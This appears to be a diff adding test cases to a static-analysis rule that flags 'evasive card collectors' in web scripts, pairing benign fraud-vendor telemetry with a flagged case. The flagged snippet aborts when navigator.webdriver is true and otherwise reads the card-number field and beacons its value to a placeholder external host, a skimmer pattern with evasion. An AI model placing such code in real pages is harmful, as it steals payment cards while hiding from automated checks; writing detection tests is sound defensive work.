@@ -37,3 +37,23 @@ fetch('https://api.stripe.com/v1/tokens', { method: 'POST',
 // ok: evasive-card-collector
 var signals = { wd: navigator.webdriver, gl: /SwiftShader/.test(getRenderer()) };
 navigator.sendBeacon('https://challenge.botshield-vendor.example.net/s', JSON.stringify(signals));
+
+// ---
+// A fraud vendor's device profile: webdriver is one of the signals it reports, beside keystroke
+// timings of the card fields (never their values), to its own unknown host.
+// ok: evasive-card-collector
+var timing = [];
+document.querySelector('[autocomplete="cc-number"]').addEventListener('keydown', function () {
+  timing.push(performance.now());
+});
+navigator.sendBeacon('https://collect.fraud-vendor.example/p',
+  JSON.stringify({ fp: { webdriver: !!navigator.webdriver, cores: navigator.hardwareConcurrency },
+                   keys: timing.length }));
+
+// ---
+// The same profile object, but the script also branches on the check to hide itself.
+// ruleid: evasive-card-collector
+if (navigator.webdriver) { throw new Error('x'); }
+var pan = document.querySelector('[autocomplete="cc-number"]');
+navigator.sendBeacon('https://collect.fraud-vendor.example/p',
+  JSON.stringify({ fp: { webdriver: !!navigator.webdriver }, v: pan.value }));
